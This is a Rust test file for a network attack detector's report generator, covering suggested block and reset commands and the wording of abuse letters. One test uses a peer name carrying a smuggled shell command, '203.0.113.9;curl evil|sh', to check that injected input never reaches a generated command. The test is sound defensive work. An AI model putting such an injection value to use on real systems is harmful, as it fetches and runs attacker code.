//! What is said of others, and what a recorder of theirs may bring about.

use super::{flag, night, report_of, told, with_incident};
use crate::report::steps::steps;
use crate::report::tests::story::{at, card, incident};
use crate::report::tests::{Wanted, abuse, made, wanted};
use detector_api::snapshot::{Advice, Direction, IncidentKind, Verdict};
use detector_recorder::{Batch, Card};

/// A recorder may be of another party, and what to do is copied into a shell.
#[test]
fn no_command_is_made_of_what_is_no_address() {
    let evil = "203.0.113.9;curl evil|sh";
    for (name, is_named) in [(evil, false), ("203.0.113.9", true)] {
        let mut incident = incident(at("21:10:00"), &[(name, 30)]);
        incident.peers[0].verdict = Some(Verdict::ZeroWindowAttack);
        let report = told(night("web1", |host| {
            let event = flag(host, "21:10:00", name, Verdict::ZeroWindowAttack);
            let batch = Batch {
                events: vec![event],
                incidents: vec![incident],
                ..Batch::default()
            };
            host.record(at("21:10:01"), &[(name, 30)], batch);
        }));
        let settings = report.steps.iter().flat_map(|step| &step.settings);
        let lines: Vec<_> = settings.flat_map(|setting| &setting.lines).collect();
        let names = lines.iter().filter(|line| line.contains("203.0.113.9"));
        assert_eq!(names.count() > 0, is_named, "{lines:?}");
    }
}

/// What its agent would not have advised, the report does not advise either: of an address that others use, or of
/// which nothing is recorded while it was accused.
#[test]
fn a_block_is_offered_only_of_an_address_that_nobody_else_is_known_to_use() {
    const PEER: &str = "203.0.113.9";
    let alone: fn(&mut Card) = |_| {};
    let shared: fn(&mut Card) = |card| {
        let advice = &mut card.detail.assessment.advice;
        advice.retain(|each| !matches!(each, Advice::LimitConnections { .. }));
    };
    let calm: fn(&mut Card) = |card| card.detail.assessment.verdict = Some(Verdict::Benign);
    let reset = format!("detector reset {PEER}");
    let block = format!("detector block {PEER} --for 1h");
    for (hosts, while_open, afterwards) in [
        (vec![alone], vec![&reset, &block], vec![&block]),
        (vec![shared], vec![&reset], vec![&reset]),
        (vec![calm], vec![&reset], vec![&reset]),
        (vec![alone, calm], vec![&reset, &block], vec![&block]),
        (vec![alone, shared], vec![&reset], vec![&reset]),
    ] {
        for (is_open, expected) in [(true, while_open), (false, afterwards)] {
            let folders = hosts.iter().zip(["web1", "web2"]).map(|(change, name)| {
                night(name, |host| {
                    let mut card = card(host.moment(at("21:10:00")), PEER, 30);
                    change(&mut card);
                    let batch = Batch {
                        cards: vec![card],
                        ..with_incident(incident(at("21:10:00"), &[(PEER, 30)]))
                    };
                    host.record(at("21:10:01"), &[(PEER, 30)], batch);
                })
            });
            let folders: Vec<_> = folders.collect();
            let (mut report, recordings) = report_of(&folders);
            for each in &mut report.incidents {
                each.incident.open = is_open;
            }
            let step = &steps(&report, &recordings)[0];
            let lines: Vec<_> = step.settings.iter().flat_map(|each| &each.lines).collect();
            assert_eq!(lines, expected, "{}", step.what);
            let is_spared = step.what.contains(&format!(" Do not block {PEER}: "));
            assert_eq!(is_spared, !lines.contains(&&block), "{}", step.what);
        }
    }
}

#[test]
fn who_holds_our_own_requests_is_not_said_to_have_asked_for_data() {
    for (verdict, asked) in [(Verdict::Tarpit, false), (Verdict::SlowClient, true)] {
        let mut incident = incident(at("21:10:00"), &[("203.0.113.9", 3)]);
        incident.kinds = vec![IncidentKind::StalledPeers];
        incident.peers[0].verdict = Some(verdict);
        let report = told(night("web1", |host| {
            host.record(
                at("21:10:01"),
                &[("203.0.113.9", 3)],
                with_incident(incident),
            );
        }));
        let summary = report.summary.join(" ");
        assert_eq!(summary.contains("asked for data"), asked, "{summary}");
    }
}

/// Of connections that we opened it had asked for nothing.
#[test]
fn the_letter_says_who_opened_the_connections() {
    let asked = "which data that it had asked for was not taken";
    let ours = "did not take what our hosts sent on connections that they had opened to it";
    let both = "of which it had opened some and they the others";
    let unknown = "on which data that was sent to it was not taken";
    for (directions, did, table) in [
        ([Direction::Inbound; 2], asked, " FROM TO "),
        ([Direction::Outbound; 2], ours, " TO FROM "),
        (
            [Direction::Outbound, Direction::Inbound],
            both,
            " THEIR END OUR END ",
        ),
        ([Direction::Unknown; 2], unknown, " THEIR END OUR END "),
    ] {
        let peer = "203.0.113.9";
        let folder = night("web1", |host| {
            let events = directions.map(|direction| {
                let mut event = flag(host, "21:10:00", peer, Verdict::SlowClient);
                event.direction = direction;
                event
            });
            let mut incident = incident(at("21:10:00"), &[(peer, 3)]);
            incident.kinds = vec![IncidentKind::StalledPeers];
            incident.peers[0].verdict = Some(Verdict::SlowClient);
            let batch = Batch {
                events: events.into(),
                ..with_incident(incident)
            };
            host.record(at("21:10:01"), &[(peer, 3)], batch);
        });
        let wanted = Wanted {
            peer: Some("203.0.113.9/32".parse().unwrap()),
            ..wanted()
        };
        let (report, recordings) = made(&wanted, &[folder.path().to_owned()]);
        let letter = abuse::letter(&report, &recordings, peer).unwrap();
        let letter = letter.split_whitespace().collect::<Vec<_>>().join(" ");
        for words in [asked, ours, both, unknown] {
            assert_eq!(letter.contains(words), words == did, "{letter}");
        }
        assert_eq!(
            letter.contains("what it asks for"),
            did == asked,
            "{letter}"
        );
        assert!(letter.contains(table), "{letter}");
        let summary = &report.summary[0];
        let is_ours = summary.contains("took hardly anything of what we sent them");
        assert_eq!(is_ours, did == ours, "{summary}");
    }
}
